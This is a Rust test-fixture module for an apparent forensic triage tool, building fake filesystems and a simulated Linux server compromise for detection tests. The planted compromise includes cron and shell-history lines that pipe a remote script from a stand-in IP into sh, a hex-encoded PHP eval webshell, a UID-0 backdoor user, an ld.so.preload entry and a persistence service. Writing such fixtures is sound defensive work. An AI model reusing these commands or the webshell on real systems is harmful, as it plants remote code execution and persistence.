//! Builds fixture trees for triage tests: files, modes, symlinks, times, and fake /proc entries.
#![allow(dead_code)]

use firewarden_model::TriageReport;
use firewarden_source::{DirEntry, FsSource, Metadata, Source, SourceError};
use firewarden_triage::TriageOptions;
use std::ffi::OsString;
use std::io::Read;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

/// One thing to put in a fixture tree.
pub enum Item {
    File(&'static str, Vec<u8>, u32),
    Link(&'static str, String),
    Dir(&'static str),
    /// Sets mtime (seconds since epoch) of an existing path.
    Mtime(&'static str, i64),
}

pub fn file(path: &'static str, text: &str) -> Item {
    Item::File(path, text.as_bytes().to_vec(), 0o644)
}
pub fn bytes(path: &'static str, data: Vec<u8>) -> Item {
    Item::File(path, data, 0o644)
}
pub fn exe(path: &'static str, text: &str, mode: u32) -> Item {
    Item::File(path, text.as_bytes().to_vec(), mode)
}
pub fn link(path: &'static str, target: &str) -> Item {
    Item::Link(path, target.to_string())
}

/// Decodes hex; malware-like fixture content is stored this way so nothing in the repository
/// looks like a live sample.
pub fn unhex(s: &str) -> String {
    let clean: Vec<u8> = s.bytes().filter(|b| b.is_ascii_hexdigit()).collect();
    let bytes: Vec<u8> = clean
        .chunks(2)
        .map(|c| u8::from_str_radix(std::str::from_utf8(c).unwrap(), 16).unwrap())
        .collect();
    String::from_utf8(bytes).unwrap()
}

pub fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

pub fn build(items: Vec<Item>) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for item in items {
        match item {
            Item::File(p, data, mode) => {
                let full = dir.path().join(p.trim_start_matches('/'));
                std::fs::create_dir_all(full.parent().unwrap()).unwrap();
                std::fs::write(&full, data).unwrap();
                std::fs::set_permissions(&full, std::fs::Permissions::from_mode(mode)).unwrap();
            }
            Item::Link(p, target) => {
                let full = dir.path().join(p.trim_start_matches('/'));
                std::fs::create_dir_all(full.parent().unwrap()).unwrap();
                symlink(target, full).unwrap();
            }
            Item::Dir(p) => {
                std::fs::create_dir_all(dir.path().join(p.trim_start_matches('/'))).unwrap()
            }
            Item::Mtime(p, secs) => {
                let f = std::fs::File::options()
                    .write(true)
                    .open(dir.path().join(p.trim_start_matches('/')))
                    .unwrap();
                f.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs as u64))
                    .unwrap();
            }
        }
    }
    dir
}

/// A fake `/proc/PID` entry.
pub struct FakeProc {
    pub pid: u32,
    pub ppid: u32,
    pub name: &'static str,
    pub cmdline: &'static str,
    pub exe: Option<&'static str>,
    pub fds: Vec<(u32, String)>,
    pub environ: &'static str,
}

impl FakeProc {
    pub fn new(pid: u32, name: &'static str, cmdline: &'static str, exe: &'static str) -> Self {
        FakeProc {
            pid,
            ppid: 1,
            name,
            cmdline,
            exe: Some(exe),
            fds: Vec::new(),
            environ: "",
        }
    }
    pub fn items(&self) -> Vec<Item> {
        let base: &'static str = Box::leak(format!("/proc/{}", self.pid).into_boxed_str());
        let at =
            |rel: &str| -> &'static str { Box::leak(format!("{base}/{rel}").into_boxed_str()) };
        let mut v = vec![
            file(
                at("status"),
                &format!(
                    "Name:\t{}\nTgid:\t{}\nPid:\t{}\nPPid:\t{}\nUid:\t0\t0\t0\t0\n",
                    self.name, self.pid, self.pid, self.ppid
                ),
            ),
            bytes(at("cmdline"), self.cmdline.replace(' ', "\0").into_bytes()),
            file(
                at("stat"),
                &format!(
                    "{} ({}) S {} 0 0 0 -1 4194560 0 0 0 0 100 50 0 0 20 0 1 0 1000 0 0",
                    self.pid, self.name, self.ppid
                ),
            ),
            bytes(at("environ"), self.environ.replace(' ', "\0").into_bytes()),
            Item::Dir(at("fd")),
        ];
        if let Some(exe) = self.exe {
            v.push(link(at("exe"), exe));
        }
        for (n, target) in &self.fds {
            v.push(link(at(&format!("fd/{n}")), target));
        }
        v
    }
}

pub fn run_check(root: &Path, id: &str) -> TriageReport {
    let src = FsSource::root(root).unwrap();
    run_on(&src, id)
}

pub fn run_on(src: &dyn Source, id: &str) -> TriageReport {
    let opts = TriageOptions {
        only: vec![id.to_string()],
        threads: 1,
        ..Default::default()
    };
    firewarden_triage::run(src, &opts, &|_| {})
}

/// A source that hides one pid from `/proc` listings, as a getdents-hooking rootkit does.
pub struct Hiding {
    pub inner: FsSource,
    pub hide: OsString,
}

impl Source for Hiding {
    fn info(&self) -> firewarden_model::SourceInfo {
        self.inner.info()
    }
    fn is_live(&self) -> bool {
        false
    }
    fn open(&self, p: &Path) -> Result<Box<dyn Read + Send>, SourceError> {
        self.inner.open(p)
    }
    fn metadata(&self, p: &Path) -> Result<Metadata, SourceError> {
        self.inner.metadata(p)
    }
    fn symlink_metadata(&self, p: &Path) -> Result<Metadata, SourceError> {
        self.inner.symlink_metadata(p)
    }
    fn read_dir(&self, p: &Path) -> Result<Vec<DirEntry>, SourceError> {
        let mut v = self.inner.read_dir(p)?;
        if p == Path::new("/proc") {
            v.retain(|e| e.name != self.hide);
        }
        Ok(v)
    }
    fn read_link(&self, p: &Path) -> Result<PathBuf, SourceError> {
        self.inner.read_link(p)
    }
}

/// A glibc `struct utmp` record (384 bytes, little-endian).
pub fn utmp_record(kind: i32, user: &str, host: &str, time: u32, ip: [u8; 4]) -> Vec<u8> {
    let mut r = vec![0u8; 384];
    r[0..4].copy_from_slice(&kind.to_le_bytes());
    r[4..8].copy_from_slice(&4242i32.to_le_bytes());
    r[8..13].copy_from_slice(b"pts/0");
    r[44..44 + user.len()].copy_from_slice(user.as_bytes());
    r[76..76 + host.len()].copy_from_slice(host.as_bytes());
    r[340..344].copy_from_slice(&time.to_le_bytes());
    r[348..352].copy_from_slice(&ip);
    r
}

pub fn md5_hex(data: &[u8]) -> String {
    use md5::{Digest, Md5};
    Md5::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

pub const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n";

pub const ATTACKER: &str = "203.0.113.66";

/// The planted compromise of the end-to-end test (also used by the evidence crate's tests).
pub fn compromised_root() -> tempfile::TempDir {
    let mut auth = Vec::new();
    for i in 0..40 {
        auth.push(format!("Nov 20 03:{:02}:{:02} web01 sshd[{}]: Failed password for {} from {ATTACKER} port {} ssh2", i / 6, (i % 6) * 10, 2000 + i, if i % 2 == 0 { "root" } else { "admin" }, 50000 + i));
    }
    auth.push(format!("Nov 20 03:07:12 web01 sshd[2100]: Accepted password for root from {ATTACKER} port 51000 ssh2"));
    auth.push("Nov 20 03:09:40 web01useradd[2200]: junk line without a proper tag".into());
    auth.push("Nov 20 03:09:41 web01 useradd[2201]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0".into());
    auth.push("Nov 20 09:00:00 web01 sshd[3000]: Accepted publickey for deploy from 198.51.100.10 port 40000 ssh2: ED25519 SHA256:xyz".into());
    let mut log = auth.join("\n").into_bytes();
    log.extend_from_slice(b"\n\x00\x00\x01\x02binary junk\xff\xfe in the middle\n");
    let webshell = unhex("3c3f70687020406576616c28245f504f53545b2778275d293b203f3e");
    build(vec![
        file(
            "/etc/passwd",
            &format!(
                "{PASSWD}sysadm:x:0:0::/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n"
            ),
        ),
        file("/etc/hostname", "web01\n"),
        file(
            "/etc/cron.d/0anacron-sync",
            "*/5 * * * * root wget -q -O- http://198.51.100.23/ldr.sh | sh\n",
        ),
        file(
            "/etc/systemd/system/system-update.service",
            "[Unit]\nDescription=System update\n[Service]\nExecStart=/tmp/.font-unix/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
        ),
        link(
            "/etc/systemd/system/multi-user.target.wants/system-update.service",
            "/etc/systemd/system/system-update.service",
        ),
        file(
            "/etc/ld.so.preload",
            "/usr/lib/x86_64-linux-gnu/libsystem.so\n",
        ),
        file(
            "/root/.ssh/authorized_keys",
            "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2 mdrfckr\n",
        ),
        file(
            "/var/www/html/wp-content/uploads/2026/11/cache.php",
            &webshell,
        ),
        bytes("/var/log/auth.log", log),
        file(
            "/root/.bash_history",
            "uname -a\ncd /tmp\nwget http://198.51.100.23/x.sh -O - | sh\nhistory -c\n",
        ),
        // Hostile bits the run must survive: a symlink out of the root, a loop, a non-UTF-8 name.
        link("/var/log/evil", "../../../../../../etc/shadow"),
        link("/home/loop/a", "/home/loop/b"),
        link("/home/loop/b", "/home/loop/a"),
        bytes("/tmp/\u{1b}[31mred", b"x".to_vec()),
    ])
}
